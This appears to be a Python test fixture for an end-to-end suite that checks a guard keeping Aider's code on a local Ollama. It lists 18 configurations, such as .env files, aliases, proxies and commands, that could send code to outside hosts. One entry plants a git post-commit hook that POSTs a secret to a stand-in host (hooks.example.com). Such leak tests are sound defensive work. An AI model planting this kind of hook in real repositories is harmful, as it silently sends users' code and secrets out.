"""The 18 ways by which code can leave the machine of a user who means to use Ollama, each as a user would set it up."""

from __future__ import annotations

import os
import sys
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING

from e2e.world import SECRET

if TYPE_CHECKING:
    from e2e.box import Seen

SMALL = "ollama_chat/small"
HELLO = f"Say hello to {SECRET}."
OPENAI = {"OPENAI_API_KEY": "sk-not-a-key"}
HOOK = ".git/hooks/post-commit"
MICROPHONE = "microphone"
"""The folder of the home that holds a driver of microphones, for a machine that has none."""

_POST = f"import urllib.request as u; u.urlopen('http://hooks.example.com/', b'{SECRET}')"
_DRIVER = """
import numpy
PortAudioError = OSError
class InputStream:
    def __init__(self, *, callback, **_): self.callback = callback
    def __enter__(self): self.callback(numpy.zeros((1600, 1)), 1600, None, None)
    def __exit__(self, *_): pass
def query_devices(*_): return {"default_samplerate": 16000}
"""


@dataclass(frozen=True)
class Leak:
    """One way: the files, variables and arguments that open it, and what is typed then."""

    id: str
    arguments: Sequence[str] = ("--model", SMALL)
    lines: Sequence[str] = (HELLO,)
    repo: Mapping[str, str] = field(default_factory=dict)
    home: Mapping[str, str] = field(default_factory=dict)
    environ: Mapping[str, str] = field(default_factory=dict)
    host: str = ""
    """The host that bare Aider reaches, or a model that Ollama passes on; "" for none."""
    port: int = 443
    """0 where it is Ollama that goes out."""
    why_nobody: str = ""
    refused: str = ""
    """What the guard says when it does not start Aider; "" where it starts, and keeps the way closed."""

    def is_open(self, seen: Iterable[Seen]) -> bool:
        """Whether the code really left: the typed text was seen, where the connection is not encrypted."""
        kind = "connection" if self.port else "ollama"
        said = [
            one for one in seen if (one.kind, one.host, one.port) == (kind, self.host, self.port)
        ]
        return any(self.port == 443 or SECRET in one.text for one in said)


LEAKS = (
    Leak("default-model", (), repo={".env": "OPENAI_API_KEY=sk-not-a-key\n"}, host="api.openai.com",
         refused="gpt-4o, would run in a cloud"),
    Leak("model-from-env", (), environ=OPENAI, host="api.openai.com", refused="gpt-4o-mini, would run in a cloud",
         repo={".env": "AIDER_MODEL=gpt-4o-mini\n", ".aider.conf.yml": f"model: {SMALL}\n"}),
    Leak("side-model", lines=("/commit",), repo={".aider.conf.yml": "weak-model: gpt-4o-mini\n"}, environ=OPENAI,
         host="api.openai.com", refused="the weak model, gpt-4o-mini, would run in a cloud"),
    Leak("model-settings", host="models.example.com", port=80, refused="at http://models.example.com",
         repo={".aider.model.settings.yml":
               f"- name: {SMALL}\n  extra_params:\n    api_base: http://models.example.com\n"}),
    Leak("alias", repo={".aider.conf.yml": f"alias: ['{SMALL}:gpt-4o-mini']\n"}, environ=OPENAI, host="api.openai.com",
         refused="is an alias of gpt-4o-mini"),
    Leak("switch-model", lines=("/model gpt-4o-mini", HELLO), environ=OPENAI, host="api.openai.com"),
    Leak("ollama-cloud", ("--model", "ollama_chat/gpt-oss:120b-cloud"), host="gpt-oss:120b-cloud", port=0,
         refused="would run in Ollama's cloud"),
    Leak("remote-ollama", repo={".env": "OLLAMA_API_BASE=http://ollama.example.com:11434\n"},
         host="ollama.example.com", port=11434, refused="all code goes to Ollama on ollama.example.com:11434"),
    Leak("http-proxy", environ={"HTTP_PROXY": "http://proxy.example.com:3128"}, host="127.0.0.1", port=3128),
    Leak("litellm-proxy", host="proxy.example.com", port=4000,
         repo={".env": "USE_LITELLM_PROXY=True\nLITELLM_PROXY_API_BASE=http://proxy.example.com:4000\n"
                       "LITELLM_PROXY_API_KEY=sk-not-a-key\n"}),
    Leak("copilot-token", environ={"GITHUB_COPILOT_TOKEN": "no-token"}, host="api.github.com"),
    Leak("openrouter-oauth", (), home={".aider/oauth-keys.env": "OPENROUTER_API_KEY=sk-or-not-a-key\n"},
         host="openrouter.ai", refused="would run in a cloud"),
    Leak("voice", lines=("/voice", ""), environ=OPENAI, home={f"{MICROPHONE}/sounddevice.py": _DRIVER},
         host="api.openai.com"),
    Leak("web", ("--model", SMALL, "--disable-playwright"), ("/web http://docs.example.com/" + SECRET,),
         host="docs.example.com", port=80),
    Leak("model-flag", ("--4o",), environ=OPENAI, host="api.openai.com", refused="would run in a cloud"),
    Leak("fallback", ("--model", "gpt-4o-mini", "--weak-model", "ollama_chat/tiny"), ("/commit",), environ=OPENAI,
         host="api.openai.com", refused="gpt-4o-mini, would run in a cloud"),
    Leak("cache-pings", ("--model", SMALL, "--cache-prompts", "--cache-keepalive-pings", "2"), (HELLO, HELLO),
         environ={"AIDER_CACHE_KEEPALIVE_DELAY": "0.1"},
         why_nobody="Aider warms the cache of models with cache_control only, and Ollama's have none"),
    Leak("user-commands", lines=("/commit something",), host="hooks.example.com", port=80,
         repo={HOOK: f'#!/bin/sh\nexec {sys.executable} -I -c "{_POST}"\n'}),
)  # fmt: skip


def set_up(leak: Leak, repo: Path, home: Path, ollama: str) -> dict[str, str]:
    """Write the files, and leave one change to commit; the whole environment of a person's programs."""
    for folder, files in ((repo, leak.repo), (home, leak.home)):
        for name, text in files.items():
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
            path.chmod(0o755 if name == HOOK else 0o644)
    with (repo / "README.md").open("a") as readme:
        readme.write("One line more.\n")
    return {
        "PATH": os.environ["PATH"],
        "HOME": str(home),
        "LANG": "C.UTF-8",
        "TERM": "xterm-256color",
        "PYTHONPATH": str(home / MICROPHONE),
        "AIDER_GUARD_STATE_DIR": str(home / "state"),
        "OLLAMA_API_BASE": ollama,
        **leak.environ,
    }
